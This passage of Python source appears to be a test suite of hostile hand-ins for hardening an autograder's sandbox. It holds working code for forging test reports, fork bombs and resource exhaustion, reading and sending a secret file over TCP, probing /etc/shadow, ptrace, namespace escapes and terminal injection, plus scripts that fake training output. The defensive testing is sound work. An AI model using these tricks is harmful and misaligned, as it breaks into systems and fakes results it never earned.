        "a traceback whose frames lie in a file of the marker's",
        {
            "Neuron.py": _neuron(
                APPLY="""
                import os

                folder = os.path.dirname(os.path.abspath(__file__))
                path = folder + "/../../../../../../../..@OUTSIDE@/secret.txt"
                exec(compile("raise ValueError('see there')", path, "exec"))
                """
            )
        },
    ),
    Trick(
        "ex06",
        "a SyntaxError that points at a file of the marker's",
        {
            "Neuron.py": _neuron(
                LAYER="""
                import os

                path = os.path.dirname(os.path.abspath(__file__))
                path += "/../../../../../../../..@OUTSIDE@/secret.txt"
                raise SyntaxError("invalid syntax", (path, 1, 1, None))
                """
            )
        },
    ),
    Trick(
        "ex00",
        "an error message that forges the report",
        _gradient(
            r"""
            raise ValueError(
                "\x1b[2J\x1b[H\r\nex00 PASSED\n===== 9 passed in 0.42s =====\n"
                "\x1b]0;passed\x07]]></failure></testcase>\x00\x0b\ud800\u202e"
                '<script>document.title = "passed"</script>'
            )
            """
        ),
    ),
    Trick(
        "ex00",
        "ten million characters of control codes for a message, and for a class",
        _gradient(
            r"""
            name = "\x1b[31m\n" * 2_000_000
            raise type(name, (Exception,), {"__module__": name})(name)
            """
        ),
    ),
    Trick(
        "ex00",
        "floods the pipe of the answers",
        _gradient(
            """
            end = time.monotonic() + 20
            sent = 0
            while sent < 64_000_000 and time.monotonic() < end:
                for number in channels():
                    sent += send(number, b'{"number": 1, "answer": 0.5}\\n' * 2000)
            """,
            "import time",
            _CHANNELS,
        ),
    ),
    Trick(
        "ex00",
        "one endless answer without a line end",
        _gradient(
            """
            end = time.monotonic() + 20
            sent = 0
            while sent < 64_000_000 and time.monotonic() < end:
                for number in channels():
                    sent += send(number, b"[" * 65536)
            """,
            "import time",
            _CHANNELS,
        ),
    ),
    Trick(
        "ex00",
        "an answer sent a byte at a time",
        _gradient(
            """
            for byte in b'{"number": 3, "answer": [[["gradient"], 0.5]]}' + b" " * 100:
                for number in channels():
                    send(number, bytes([byte]))
                time.sleep(0.25)
            """,
            "import time",
            _CHANNELS,
        ),
    ),
    Trick(
        "ex07",
        "replaces the worker's methods",
        {
            "NeuralNetwork.py": _network(
                HEAD="""
                import gc
                import sys

                def forge(self, *arguments, **named):
                    return [[["attribute", "weights", 0], 0.5]]

                for kind in [thing for thing in gc.get_objects() if isinstance(thing, type)]:
                    if kind.__module__ == "__main__":
                        for name in ("numbers", "call", "has"):
                            if name in vars(kind):
                                setattr(kind, name, forge)
                for name in ("objectNumbers", "failures", "confinement"):
                    if name in sys.modules:
                        vars(sys.modules[name]).update(numbersOf=forge, asNumber=forge)
                """,
                APPLY="pass",
            )
        },
    ),
    Trick(
        "ex00",
        "looks for the expected values in the frames and in gc",
        _gradient(
            """
            self.gradient = next(hints(), 0.5)
            """,
            """
            import gc
            import sys

            WORDS = ("expected", "wanted", "answer", "gradient", "reference")

            def hints():
                frame = sys._getframe()
                places = []
                while frame is not None:
                    places += [dict(frame.f_locals), frame.f_globals]
                    frame = frame.f_back
                places += [thing for thing in gc.get_objects() if type(thing) is dict]
                for place in places:
                    for name, value in list(place.items()):
                        if isinstance(name, str) and isinstance(value, float):
                            if any(word in name.lower() for word in WORDS):
                                yield value
            """,
        ),
    ),
    Trick(
        "ex01",
        "traces the worker to catch what is compared",
        {
            "Neuron.py": _neuron(
                HEAD="""
                import sys
                import threading

                CAUGHT = []

                def trace(frame, event, argument):
                    for name, value in list(frame.f_locals.items())[:50]:
                        if "expect" in name and len(CAUGHT) < 1000:
                            CAUGHT.append(value)
                    if event == "return" and "equal" in frame.f_code.co_name.lower():
                        CAUGHT.append(argument)
                    return trace

                sys.settrace(trace)
                sys.setprofile(trace)
                threading.settrace(trace)
                frame = sys._getframe()
                while frame is not None:
                    frame.f_trace = trace
                    frame = frame.f_back
                """,
                APPLY="self.weights = CAUGHT[-1] if CAUGHT else self.weights",
            )
        },
    ),
    Trick(
        "ex00",
        "patches builtins and math.isclose",
        _gradient(
            "self.gradient = 0.5",
            """
            import builtins

            class Same(float):
                def __eq__(self, other):
                    return True

                __lt__ = __le__ = __gt__ = __ge__ = __eq__
                __hash__ = float.__hash__

            builtins.abs = lambda thing: 0.0
            builtins.float = Same
            builtins.isinstance = lambda thing, kinds: True
            builtins.all = builtins.any = lambda things: True
            builtins.open = lambda *arguments, **named: None
            builtins.print = lambda *arguments, **named: None
            math.isclose = lambda *arguments, **named: True
            """,
        ),
    ),
    Trick(
        "ex00",
        "patches json in place",
        _gradient(
            "self.gradient = 0.5",
            """
            import json

            dumps = json.dumps

            def forge(thing, **how):
                if isinstance(thing, dict) and "error" in thing:
                    thing = {"number": thing.get("number"), "answer": 0.5}
                return dumps(thing, **how).replace("0.5", "1e999")

            json.dumps = forge
            json.loads = lambda text, **how: {"number": 1, "do": "has", "passed": True}
            """,
        ),
    ),
    Trick(
        "ex05",
        "a forged pytest and unittest in sys.modules",
        {
            "NeuralNetwork.py": _network(
                HEAD="""
                import sys
                import types
                import unittest

                def passed(*arguments, **named):
                    return None

                forged = types.ModuleType("pytest")
                forged.approx = forged.fail = forged.raises = forged.main = passed
                sys.modules["pytest"] = sys.modules["_pytest"] = forged
                for name in dir(unittest.TestCase):
                    if name.startswith("assert") or name == "run":
                        setattr(unittest.TestCase, name, passed)
                """,
                GRADIENTS="pass",
            )
        },
    ),
    Trick(
        "ex00",
        "import hooks and replaced modules",
        _gradient(
            "self.gradient = 0.5",
            """
            import sys
            import types

            class Finder:
                def find_spec(self, name, path=None, target=None):
                    sys.modules[name] = types.ModuleType(name)
                    raise ImportError(name)

            sys.meta_path.insert(0, Finder())
            sys.path_hooks.insert(0, lambda path: Finder())
            for name in ("socket", "linecache", "traceback", "os", "math"):
                sys.modules[name] = types.ModuleType(name)
            sys.modules["__main__"] = types.ModuleType("__main__")
            sys.stdout = sys.stderr = sys.__stdout__ = sys.excepthook = None
            """,
        ),
    ),
]


# ---- Files of the hand-in that shadow or steer the marker's ----------------------------------

_RAN = """
    def proof(name):
        # a file of the marker's that shows where this ran
        try:
            open("@OUTSIDE@/" + name, "x").close()
        except OSError:
            pass
"""

_WRONG = _gradient("self.gradient = 0.5")

_SHADOWS = [
    Trick(
        "ex00",
        "a conftest.py that makes every test pass",
        _WRONG
        | {
            "conftest.py": _join(
                _RAN,
                """
                import pytest

                proof("conftest")

                @pytest.hookimpl(hookwrapper=True)
                def pytest_runtest_makereport(item, call):
                    result = yield
                    report = result.get_result()
                    report.outcome = "passed"
                    report.longrepr = None

                def pytest_collection_modifyitems(items):
                    items[:] = items[:1]

                def pytest_sessionfinish(session):
                    session.exitstatus = 0
                """,
            ),
            "__init__.py": "",
        },
    ),
    Trick(
        "ex00",
        "a pytest.ini, a pyproject.toml and a tox.ini that collect nothing",
        _WRONG
        | {
            "pytest.ini": "[pytest]\naddopts = --collect-only -p no:terminal\ntestpaths = none\n",
            "tox.ini": "[pytest]\naddopts = -k nothing\n",
            "setup.cfg": "[tool:pytest]\naddopts = --co\n",
            "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "--collect-only"\n',
            "test_ex00.py": "def test_ex00():\n    assert True\n",
        },
    ),
    Trick(
        "ex00",
        "sitecustomize.py and usercustomize.py",
        _WRONG
        | {
            name + ".py": _join(
                _RAN,
                f"""
                import builtins
                import os
                import sys

                proof("{name}")
                builtins.abs = lambda thing: 0.0
                if "pytest" in " ".join(sys.argv):
                    os._exit(0)
                """,
            )
            for name in ("sitecustomize", "usercustomize")
        },
    ),
    Trick(
        "ex00",
        "a json.py that forges, put in the worker's hands",
        {
            "json.py": _join(
                _RAN,
                """
                proof("json")

                class JSONDecodeError(ValueError):
                    pass

                def dumps(thing, **how):
                    number = thing.get("number", 0) if isinstance(thing, dict) else 0
                    return '{"number": %d, "answer": [[["gradient"], 0.5]]}' % number

                def loads(text, **how):
                    return {"number": 0, "do": "has", "thing": 0, "method": "activate"}

                dump = load = loads
                """,
            ),
            "Neuron.py": _neuron(
                HEAD="""
                import sys

                sys.modules.pop("json", None)
                import json

                for module in list(sys.modules.values()):
                    if hasattr(module, "json"):
                        module.json = json
                """,
                OUTPUT="pass",
            ),
        },
    ),
    Trick(
        "ex04",
        "struct.py, random.py, math.py and others that shadow the standard library",
        {
            "NeuralNetwork.py": _network(LOSS="return 0.7"),
        }
        | {
            name + ".py": _join(
                _RAN,
                f"""
                proof("{name}")

                class Yes(float):
                    def __eq__(self, other):
                        return True

                    __hash__ = float.__hash__

                def __getattr__(name):
                    if name.startswith("__"):
                        raise AttributeError(name)
                    return lambda *arguments, **named: Yes(0.5)

                def random(*arguments):
                    return 0.5

                uniform = exp = log = isclose = fsum = unpack = random
                """,
            )
            for name in ("struct", "random", "math", "numbers", "linecache", "selectors")
        },
    ),
    Trick(
        "ex05",
        "a package grading/ and a worker.py of its own",
        {
            "NeuralNetwork.py": _network(GRADIENTS="pass"),
            "grading/__init__.py": _join(_RAN, 'proof("grading")'),
            "grading/inside/worker.py": "raise SystemExit(0)\n",
        }
        | {
            name + ".py": _join(
                _RAN,
                f"""
                proof("{name}")

                def numbersOf(root):
                    return [(["gradient"], 0.5)]

                def describeError(error, folder):
                    return None
                """,
            )
            for name in ("worker", "confinement", "objectNumbers", "failures", "learningScript")
        },
    ),
    Trick(
        "ex02",
        "a matplotlib/ of its own that reports forged drawings",
        {
            "OrLearn.py": _join(_READ, _PRETEND, "pretend()", _ECHO_OR),
            "matplotlib/__init__.py": '__version__ = "3.9.0"\n\n\ndef use(*a, **k):\n    pass\n',
            "matplotlib/pyplot.py": _join(
                _CHANNELS,
                """
                class Thing:
                    # accepts any call, and says that it was drawn
                    def __getattr__(self, name):
                        return Thing()

                    def __call__(self, *arguments, **named):
                        tell({"event": "draw", "lines": [[[0, 0.69], [1, 0.3], [2, 0.05]]]})
                        return Thing()

                    def __iter__(self):
                        return iter([Thing()])

                def __getattr__(name):
                    if name.startswith("__"):
                        raise AttributeError(name)
                    return Thing()
                """,
            ),
        },
    ),
    Trick(
        "ex03",
        "a matplotlib.py and a numpy.py of its own",
        {
            "BinaryLearn.py": _join(
                _READ,
                """
                import matplotlib

                plt = matplotlib
                plt.plot([0, 1, 2], [0.69, 0.3, 0.01])
                plt.show()
                print("epoch 0 cost 0.69")
                print("epoch 1 cost 0.3")
                print("epoch 2 cost 0.01")
                """,
                _ECHO_BINARY,
            ),
            "matplotlib.py": _join(
                """
                __path__ = []

                def __getattr__(name):
                    if name.startswith("__"):
                        raise AttributeError(name)
                    return lambda *arguments, **named: None
                """
            ),
            "numpy.py": "ndarray = list\narray = list\n",
        },
    ),
    Trick(
        "ex08",
        "a matplotlibrc and a backend of its own",
        {
            "DigitsLearn.py": _join(
                'import matplotlib\n\nmatplotlib.use("module://backend")',
                _READ,
                _PRETEND,
                "pretend(6.9)",
                _ECHO_DIGITS,
            ),
            "matplotlibrc": "backend: module://backend\n",
            "backend.py": _join(
                """
                from matplotlib.backend_bases import FigureManagerBase
                from matplotlib.backends.backend_agg import FigureCanvasAgg

                class FigureCanvas(FigureCanvasAgg):
                    def draw(self):
                        pass

                FigureManager = FigureManagerBase
                """
            ),
        },
    ),
]


# ---- Too much of everything ------------------------------------------------------------------

_EXCESSES = [
    Trick(
        "ex02",
        "200 MB on the standard output",
        {
            "OrLearn.py": _join(
                """
                import signal
                import sys

                signal.alarm(40)  # should nobody read
                for _ in range(200):
                    sys.stdout.write("0 0 0 : 0\\n" * 100_000)
                """
            )
        },
    ),
    Trick(
        "ex03",
        "one line of 200 MB, then echoed answers",
        {
            "BinaryLearn.py": _join(
                """
                import signal
                import sys

                signal.alarm(40)
                for _ in range(200):
                    sys.stdout.write("1" * 1_000_000)
                print()
                """,
                _READ,
                _ECHO_BINARY,
            )
        },
    ),
    Trick(
        "ex00",
        "200 MB on the worker's stdout and stderr",
        _gradient(
            """
            signal.alarm(40)
            for _ in range(100):
                os.write(1, b"ok\\n" * 333_333)
                os.write(2, b"\\x1b[2J" * 250_000)
            signal.alarm(0)
            """,
            "import os\nimport signal",
        ),
    ),
    # Started anew, so that the word to look for is in every command line.
    Trick(
        "ex00",
        "a fork bomb of 128 processes that ignore SIGTERM",
        _gradient(
            """
            if not Neuron.begun:
                Neuron.begun = True
                spawn(BOMB, start_new_session=True)
            """,
            _SPAWN,
            '''
            BOMB = """
            import os, signal, time
            end = time.monotonic() + 20
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            for _ in range(7):
                try:
                    os.fork()
                except OSError:
                    pass
            while time.monotonic() < end:
                pass
            os._exit(0)
            """
            ''',
            CLASS="begun = False",
        ),
    ),
    Trick(
        "ex03",
        "a hundred processes from the script, then echoed answers",
        _fakeBinary(
            _SPAWN,
            """
            children = []
            for _ in range(100):
                try:
                    children.append(spawn("import time; time.sleep(20)"))
                except OSError:
                    break
            pretend()
            """,
            _ECHO_BINARY,
        ),
    ),
    Trick(
        "ex00",
        "two thousand threads",
        _gradient(
            """
            for _ in range(0 if Neuron.begun else 2000):
                Neuron.begun = True
                try:
                    threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
                except RuntimeError:
                    break
            """,
            "import threading\nimport time",
            CLASS="begun = False",
        ),
    ),
    Trick(
        "ex00",
        "3 GB of memory in one process",
        _gradient(
            """
            hoard = []
            for _ in range(29):
                try:
                    hoard.append(b"x" * 100_000_000)
                except MemoryError:
                    break
            time.sleep(10)
            """,
            "import time",
        ),
    ),
    Trick(
        "ex02",
        "3 GB of memory over twenty processes",
        _fakeOr(
            _SPAWN,
            """
            hog = "import time; hoard = b'x' * 140_000_000; time.sleep(15)"
            children = []
            for _ in range(20):
                try:
                    children.append(spawn(hog))
                except OSError:
                    break
            for child in children:
                child.wait()
            pretend()
            """,
            _ECHO_OR,
        ),
    ),
    Trick(
        "ex00",
        "raises its own limits, then takes what it can",
        _gradient(
            """
            for name in dir(resource):
                if name.startswith("RLIMIT_"):
                    kind = getattr(resource, name)
                    for limit in (resource.RLIM_INFINITY, 2**40):
                        try:
                            resource.setrlimit(kind, (limit, limit))
                        except (ValueError, OSError):
                            pass
            try:
                hoard = b"x" * 2_000_000_000
            except MemoryError:
                hoard = None
            self.gradient = 0.5
            """,
            "import resource",
        ),
    ),
    Trick(
        "ex01",
        "lowers the limits of the worker to nothing",
        {
            "Neuron.py": _neuron(
                APPLY="""
                import resource

                for name in ("RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_STACK", "RLIMIT_AS"):
                    kind = getattr(resource, name)
                    try:
                        resource.setrlimit(kind, (0, resource.getrlimit(kind)[1]))
                    except (ValueError, OSError):
                        pass
                """
            )
        },
    ),
]

_FULL_DISKS = [
    Trick(
        exercise,
        f"300 MB of files in {what}",
        {
            "Neuron.py": _neuron(
                HEAD=_join(
                    f"""
                    import os
                    import tempfile
                    import time

                    PLACE = {place}

                    def fill():
                        made = []
                        try:
                            for _ in range(10):
                                file = tempfile.NamedTemporaryFile(dir=PLACE, delete=False)
                                made.append(file.name)
                                with file:
                                    for _ in range(30):
                                        file.write(b"x" * 1_000_000)
                            time.sleep(5)
                        finally:
                            for name in made:
                                os.unlink(name)
                    """
                ),
                OUTPUT="fill()",
                APPLY="fill()",
                LAYER="fill()",
            )
        },
    )
    for exercise, what, place in (
        ("ex00", "the scratch folder", "os.getcwd()"),
        ("ex01", "/tmp", '"/tmp"'),
        ("ex06", "/dev/shm", '"/dev/shm"'),
    )
]

_ODD_FILES = [
    Trick(
        "ex02",
        "a sparse file of 8 GB in the place of the picture",
        _fakeOr(
            """
            import os

            with open("cost.png", "x") as file:
                try:
                    os.truncate(file.fileno(), 8 * 2**30)
                except OSError as error:
                    print("no", error.errno)
            pretend()
            """,
            _ECHO_OR,
            'os.unlink("cost.png")',
        ),
    ),
    Trick(
        "ex03",
        "folders nested very deep, and twenty thousand small files",
        _fakeBinary(
            """
            import os

            home = os.getcwd()
            try:
                for k in range(20_000):
                    open(f"small{k}.txt", "x").close()
                for _ in range(1200):
                    os.mkdir("d")
                    os.chdir("d")
            except OSError as error:
                print("no", error.errno)
            pretend()
            """,
            "os.chdir(home)",
            _ECHO_BINARY,
        ),
    ),
    Trick(
        "ex00",
        "names and pipes that trip a reader of the folder",
        _gradient(
            r"""
            for name in ("a\nb", "\udcff.py", "-rf", "$(id)", "'; x", "\x1b[2J", "n" * 255):
                try:
                    open(name, "x").close()
                except (OSError, ValueError):
                    pass
            try:
                os.mkfifo("pipe.ds")
                os.mkdir("locked")
                os.chmod("locked", 0)
            except OSError:
                pass
            """,
            "import os",
        ),
    ),
]


# ---- Reaching out ----------------------------------------------------------------------------

_DAEMON = '''
    DAEMON = """
    import os, signal, time
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    time.sleep(20)
    open("@OUTSIDE@/daemon", "x").close()
    """
'''

_TRY = """
    def attempt(what, action):
        try:
            print(what, "DONE", action(), flush=True)
        except Exception as error:
            print(what, "refused", type(error).__name__, flush=True)
"""

# Whether it could be read is told, never what it says; secret.txt alone is the marker's bait.
_REACH = [
    Trick(
        "ex02",
        "a daemon, forked twice, that outlives the script",
        _fakeOr(_SPAWN, _DAEMON, "spawn(DAEMON).wait()\npretend()", _ECHO_OR),
    ),
    Trick(
        "ex00",
        "a daemon, forked twice, that outlives the worker",
        _gradient("spawn(DAEMON).wait()\nos._exit(0)", "import os", _SPAWN, _DAEMON),
    ),
    # A reader who waits for the end of the output waits for the child.
    Trick(
        "ex03",
        "a child in a session of its own keeps the standard output open",
        _fakeBinary(
            _SPAWN,
            """
            spawn("import time; time.sleep(30); print('late')", start_new_session=True)
            pretend()
            """,
            _ECHO_BINARY,
        ),
    ),
    Trick(
        "ex00",
        "a child inherits the worker's pipe and answers after its death",
        _gradient(
            """
            spawn(LATE, close_fds=False, start_new_session=True)
            os._exit(0)
            """,
            "import os",
            _SPAWN,
            '''
            for number in range(3, 64):
                try:
                    os.set_inheritable(number, True)
                except OSError:
                    pass

            LATE = r"""
            import os, time
            end = time.monotonic() + 20
            while time.monotonic() < end:
                time.sleep(0.2)
                for number in range(3, 64):
                    try:
                        os.set_blocking(number, False)
                        os.write(number, b'{"number": 4, "answer": 0.5}\\n')
                    except OSError:
                        pass
            """
            ''',
        ),
    ),
    Trick(
        "ex00",
        "kills its parent, its group and all it may",
        _gradient(
            """
            self.gradient = 0.5
            if alone():
                for pid in (os.getppid(), 0, 1, -1):
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            """,
            "import signal",
            _ALONE,
        ),
    ),
    Trick(
        "ex00",
        "traces its parent and looks into its memory",
        _gradient(
            """
            self.gradient = 0.5
            if alone():
                attempt("ptrace", lambda: ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0))
                attempt("detach", lambda: ctypes.CDLL(None).ptrace(17, os.getppid(), 0, 0))
                for pid in range(1, os.getpid()):
                    attempt("memory", lambda: open(f"/proc/{pid}/mem", "r+b").close())
            """,
            "import ctypes",
            _ALONE,
            _TRY,
        ),
    ),
    Trick(
        "ex02",
        "TCP and UDP to the marker's machine",
        _fakeOr(
            _TRY,
            """
            import socket

            def tcp(host):
                with socket.create_connection((host, @PORT@), timeout=3) as link:
                    link.sendall(b"@TOKEN@")
                    return link.getsockname()

            def udp(host):
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
                    link.sendto(b"@TOKEN@", (host, @PORT@))

            for host in ("127.0.0.1", "localhost", "0.0.0.0", "127.1.2.3"):
                attempt("tcp", lambda: tcp(host))
                attempt("udp", lambda: udp(host))
            pretend()
            """,
            _ECHO_OR,
        ),
    ),
    Trick(
        "ex00",
        "TCP from the worker, the secret for a message",
        _gradient(
            """
            self.gradient = 0.5
            link = socket.create_connection(("127.0.0.1", @PORT@), timeout=3)
            with link, open("@OUTSIDE@/secret.txt", "rb") as file:
                link.sendall(b"@TOKEN@ " + file.read(1000))
            """,
            "import socket",
        ),
    ),
    Trick(
        "ex02",
        "prints the marker's secret",
        _fakeOr(
            _TRY,
            """
            import glob
            import os

            paths = ["@OUTSIDE@/secret.txt", "../../../../../../..@OUTSIDE@/secret.txt"]
            paths += glob.glob("/proc/*/root@OUTSIDE@/secret.txt")
            paths += glob.glob("/proc/*/cwd/secret.txt")
            os.symlink("@OUTSIDE@/secret.txt", "secret.png")
            for path in [*paths, "secret.png"]:
                attempt("secret", lambda: open(path).read(1000))
            attempt("outside", lambda: os.listdir("@OUTSIDE@"))
            attempt("handIn", lambda: os.listdir("@HANDIN@"))
            pretend()
            """,
            _ECHO_OR,
        ),
    ),
    Trick(
        "ex00",
        "the marker's secret in an error message",
        _gradient(
            """
            with open("@OUTSIDE@/secret.txt") as file:
                raise ValueError(file.read(1000))
            """
        ),
    ),
    # An open folder of the marker's would be a way out: openat does not ask where one is.
    Trick(
        "ex01",
        "climbs out through inherited folders",
        {
            "Neuron.py": _neuron(
                HEAD=_join(_TRY, "import os"),
                APPLY="""
                for number in range(64):
                    for up in (".", "..", "../../../.."):
                        place = f"{up}@OUTSIDE@/secret.txt"
                        attempt("openat", lambda: os.read(os.open(place, 0, dir_fd=number), 99))
                """,
            )
        },
    ),
    Trick(
        "ex03",
        "tells whether private places can be read",
        _fakeBinary(
            _TRY,
            """
            import glob
            import os

            def canRead(path):
                with open(path, "rb") as file:
                    return len(file.read(1))

            def others():
                found = 0
                for path in glob.glob("/proc/[0-9]*/environ"):
                    try:
                        found += canRead(path) if path.split("/")[2] != str(os.getpid()) else 0
                    except OSError:
                        pass
                return found

            attempt("shadow", lambda: canRead("/etc/shadow"))
            for place in ("/root", "/home", "/root/.ssh", os.path.expanduser("~/.ssh")):
                attempt(place, lambda: len(os.listdir(place)))
            attempt("environ", others)
            pretend()
            """,
            _ECHO_BINARY,
        ),
    ),
    Trick(
        "ex08",
        "walks the machine for tests, reports and expected values",
        _fakeDigits(
            """
            import os
            import time

            end = time.monotonic() + 20
            for folder, folders, files in os.walk("/"):
                folders[:] = [name for name in folders if name not in ("proc", "sys", "usr")]
                for name in files:
                    if name.startswith(("test_ex", "learningScript", "report", "expected")):
                        print("FOUND", os.path.join(folder, name))
                if time.monotonic() > end:
                    break
            pretend(6.9)
            """,
            _ECHO_DIGITS,
        ),
    ),
    Trick(
        "ex02",
        "writes into the marker's folder, the hand-in and the installation",
        _fakeOr(
            _TRY,
            """
            import os
            import sysconfig

            def write(folder):
                path = os.path.join(folder, "hostile-@TOKEN@.txt")
                open(path, "x").close()
                return path

            def link(folder):
                os.symlink(folder, "way")
                return write("way")

            places = ["@OUTSIDE@", "@HANDIN@", "/proc/1/root@OUTSIDE@", "/proc/1/root@HANDIN@"]
            places += [sysconfig.get_path("purelib"), sysconfig.get_path("stdlib")]
            for place in places:
                attempt("write", lambda: write(place))
            attempt("link", lambda: link("@HANDIN@"))
            attempt("hard link", lambda: os.link("@OUTSIDE@/secret.txt", "hard.txt"))
            attempt("hard link out", lambda: os.link("or.ds", "@OUTSIDE@/hard.txt"))
            pretend()
            """,
            _ECHO_OR,
        ),
    ),
    Trick(
        "ex00",
        "chmod on the hand-in, and writing in it",
        _gradient(
            """
            self.gradient = 0.5
            here = os.path.dirname(os.path.abspath(__file__))
            for place in ("@HANDIN@", here, "/handIn", "/datasets"):
                attempt("chmod", lambda: os.chmod(place, 0o777))
                attempt("write", lambda: open(place + "/hostile.txt", "x").close())
            """,
            "import os",
            _TRY,
        ),
    ),
    Trick(
        "ex03",
        "remounts what is read-only, and writes there",
        _fakeBinary(
            _ALONE,
            _TRY,
            """
            import ctypes

            MS_REMOUNT_BIND = 32 | 4096

            def mountPoints():
                with open("/proc/self/mounts") as file:
                    return [line.split()[1] for line in file]

            if alone():
                library = ctypes.CDLL(None, use_errno=True)
                for place in [*mountPoints(), "@HANDIN@", "@OUTSIDE@"]:
                    name = place.encode()
                    print("mount", library.mount(None, name, None, MS_REMOUNT_BIND, None))
                    if not place.startswith(("/proc", "/dev", "/usr", "/sys")):
                        attempt("write", lambda: open(place + "/remounted.txt", "x").close())
            pretend()
            """,
            _ECHO_BINARY,
        ),
    ),
    Trick(
        "ex00",
        "a user namespace of its own, with all rights, and a mount in it",
        _gradient(
            """
            self.gradient = 0.5
            if alone():
                for flags in (0x10000000, 0x10000000 | 0x20000, 0x20000, 0x40000000):
                    print("unshare", LIBRARY.unshare(flags))
                attempt("map", lambda: open("/proc/self/uid_map", "wb", 0).write(b"0 65534 1"))
                LIBRARY.mount(b"none", b"/tmp", b"tmpfs", 0, None)
                LIBRARY.mount(None, b"/handIn", None, 32 | 4096, None)
                attempt("write", lambda: open("/handIn/hostile.txt", "x").close())
                attempt("become root", lambda: os.setuid(0))
            """,
            "import ctypes\n\nLIBRARY = ctypes.CDLL(None, use_errno=True)",
            _ALONE,
            _TRY,
        ),
    ),
    Trick(
        "ex02",
        "joins the namespaces of other processes, and changes its root",
        _fakeOr(
            _ALONE,
            _TRY,
            """
            import ctypes
            import glob

            if alone():
                library = ctypes.CDLL(None, use_errno=True)
                for path in glob.glob("/proc/[0-9]*/ns/*"):
                    attempt("join", lambda: library.setns(os.open(path, os.O_RDONLY), 0))
                attempt("chroot", lambda: os.chroot("/proc/1/root"))
                attempt("secret", lambda: open("@OUTSIDE@/secret.txt").read(1000))
            pretend()
            """,
            _ECHO_OR,
        ),
    ),
    Trick(
        "ex03",
        "types into the marker's terminal",
        _fakeBinary(
            _TRY,
            """
            import fcntl
            import os
            import termios

            def typeInto(number):
                for letter in b"# @TOKEN@":
                    fcntl.ioctl(number, termios.TIOCSTI, bytes([letter]))

            for number in (0, 1, 2):
                attempt("type", lambda: typeInto(number))
            attempt("tty", lambda: typeInto(os.open("/dev/tty", os.O_RDWR)))
            attempt("write", lambda: open("/dev/tty", "wb", 0).write(b"@TOKEN@"))
            pretend()
            """,
            _ECHO_BINARY,
        ),
    ),
]


# ---- Scripts that answer without learning ----------------------------------------------------

_MEMORY_OF_RUNS = """
    import os

    def ranBefore():
        # a word left for the next run, wherever one can be left
        found = False
        for folder in (".", os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp"):
            path = os.path.join(folder, "ran-@TOKEN@.txt")
            found = found or os.path.exists(path)
            try:
                open(path, "x").close()
            except OSError:
                pass
        return found
"""

_CHEATS = [
    Trick(
        "ex02",
        "OrLearn echoes the labels, costs and curve made up",
        _fakeOr("pretend()", _ECHO_OR),
    ),
    Trick(
        "ex02",
        "OrLearn knows the table of OR by heart",
        _fakeOr(
            """
            pretend()
            for inputs, outputs in read("or.ds"):
                print(*map(int, inputs), int(outputs[0]), ":", int(any(inputs)))
            """
        ),
    ),
    # No neuron can do that on examples that contradict each other, or on XOR.
    Trick(
        "ex02",
        "OrLearn looks its answers up in a dictionary",
        _fakeOr(
            """
            pretend()
            table = {}
            for inputs, outputs in read("or.ds"):
                table.setdefault(tuple(inputs), []).append(outputs[0])
            for inputs, outputs in read("or.ds"):
                seen = table[tuple(inputs)]
                print(*map(int, inputs), int(outputs[0]), ":", round(sum(seen) / len(seen)))
            """
        ),
    ),
    Trick(
        "ex02",
        "OrLearn prints the sheet's example, and costs that are NaN",
        _fakeOr(
            """
            pretend(float("nan"))
            print("0 0 0 : 0\\n0 1 1 : 1\\n1 0 1 : 1\\n1 1 1 : 1")
            """
        ),
    ),
    Trick(
        "ex02",
        "OrLearn answers 0 and 1 to every example",
        _fakeOr(
            """
            pretend()
            for inputs, outputs in read("or.ds"):
                for guess in (0, 1):
                    print(*map(int, inputs), int(outputs[0]), ":", guess)
            """
        ),
    ),
    Trick(
        "ex02",
        "OrLearn learns, but makes up the costs and the curve",
        _fakeOr(
            """
            from Dataset import Dataset
            from Neuron import Neuron

            dataset = Dataset("or.ds")
            neuron = Neuron(2)
            for _ in range(2000):
                for example in dataset.examples:
                    neuron.activate(example.inputs)
                    neuron.calculateOutputGradient(example.outputs[0])
                    neuron.applyGradient(0.5, example.inputs)
            pretend()
            for example in dataset.examples:
                h = neuron.activate(example.inputs)
                print(*map(int, example.inputs), int(example.outputs[0]), ":", round(h))
            """
        ),
    ),
    # The weights do not move, the cost is that of the first guess times a falling factor.
    Trick(
        "ex02",
        "a Neuron.py that learns under the worker alone",
        {
            "Neuron.py": _neuron(
                HEAD='import sys\n\nTRUE_NAME = getattr(sys.modules["__main__"], "__file__", "")',
                APPLY="""
                if TRUE_NAME.endswith("worker.py"):
                    self.weights[0] += learningRate * self.gradient
                    for i in range(len(inputs)):
                        self.weights[i + 1] += learningRate * self.gradient * inputs[i]
                """,
            )
        }
        | _fakeOr(
            """
            from Dataset import Dataset
            from Neuron import Neuron

            dataset = Dataset("or.ds")
            neuron = Neuron(2)
            for example in dataset.examples:
                neuron.activate(example.inputs)
                neuron.calculateOutputGradient(example.outputs[0])
                neuron.applyGradient(0.5, example.inputs)
            pretend(neuron.calcLoss(dataset))
            """,
            _ECHO_OR,
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn echoes the labels, costs and curve made up",
        _fakeBinary("pretend()", _ECHO_BINARY),
    ),
    Trick(
        "ex03",
        "BinaryLearn echoes the labels with a few mistakes",
        _fakeBinary(
            """
            import random

            pretend()
            for inputs, outputs in read("testBinary.ds"):
                y = int(outputs[0])
                print(y, ":", 1 - y if random.random() < 0.02 else y)
            """
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn answers 0 and 1 to every picture, in foreign digits",
        _fakeBinary(
            r"""
            pretend()
            for inputs, outputs in read("testBinary.ds"):
                y = int(outputs[0])
                print(y, ":", 1 - y)
                print("\u0661" if y else "\u0660", ":", "\uff11" if y else "\uff10")
                print(y, ":", 1 - y, "\r", y, ":", y)
            """
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn has the answers in a list",
        _fakeBinary(
            f"""
